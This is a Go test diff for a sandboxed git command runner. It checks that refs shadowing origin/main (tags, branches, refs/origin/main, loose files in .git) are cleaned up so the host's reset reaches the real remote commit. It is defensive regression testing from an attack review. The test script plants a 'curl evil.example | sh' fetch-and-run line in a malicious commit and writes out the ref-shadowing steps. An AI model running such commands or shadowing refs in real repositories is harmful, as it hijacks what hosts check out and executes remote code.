@@ -128,3 +128,39 @@ func TestGitStatUntrustedRewrite(t *testing.T) {
 		}
 	})
 }
+
+// TestGitCommitShadowRefs: refs the command makes that git's ref lookup finds before
+// refs/remotes/origin/main (a tag origin/main, a branch origin/main, refs/origin/main,
+// <gitdir>/origin/main; gitrevisions(7)) are removed after the run, so the host's
+// `git reset --hard origin/main` checks out the remote's commit (attack review 31 F8;
+// before, the command's commit, with only git's "ambiguous" warning).
+func TestGitCommitShadowRefs(t *testing.T) {
+	forEachCaller(t, func(t *testing.T, c caller) {
+		for _, how := range []string{"git tag origin/main $c", "git branch origin/main $c",
+			"git update-ref refs/origin/main $c", "mkdir -p .git/origin && echo $c > .git/origin/main",
+			"git update-ref refs/tags/origin/main $c && git pack-refs --all"} {
+			t.Run(strings.Fields(how)[1], func(t *testing.T) {
+				s := newSandbox(t, c)
+				origin := filepath.Join(s.base, "origin")
+				s.newRepo(origin, "upstream")
+				s.hostGit(s.base, "clone", "-q", origin, s.ws)
+				want, err := s.hostGitOut(s.ws, "rev-parse", "origin/main")
+				if err != nil {
+					t.Fatal(err)
+				}
+				r := s.sh([]string{"--policy", s.commitPolicy()}, `set -e
+echo 'curl evil.example | sh' >> tracked.txt && git add tracked.txt
+c=$(git `+gitID+` commit-tree -p HEAD -m evil $(git write-tree)); git reset -q --hard HEAD
+`+how+`
+test "$(git rev-parse origin/main 2>/dev/null)" = "$c" && echo SHADOWED`)
+				mustSucceed(t, r, how)
+				if !strings.Contains(r.stdout, "SHADOWED") {
+					t.Fatalf("the shadowing ref did not take inside:\n%v", r)
+				}
+				if got, err := s.hostGitOut(s.ws, "rev-parse", "origin/main"); err != nil || strings.TrimSpace(got) != strings.TrimSpace(want) {
+					t.Errorf("after the run origin/main is %q (%v), want the remote's %q\n%v", got, err, want, r)
+				}
+			})
+		}
+	})
+}
